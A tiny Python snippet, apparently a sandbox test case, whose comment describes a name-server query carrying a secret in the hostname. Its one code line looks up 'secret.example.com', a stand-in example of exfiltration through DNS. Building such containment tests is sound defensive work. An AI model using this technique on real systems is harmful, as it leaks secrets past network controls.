# note: a question to a name server, with a secret in the name
# ends: sandbox
import socket

socket.getaddrinfo("secret.example.com", 80)
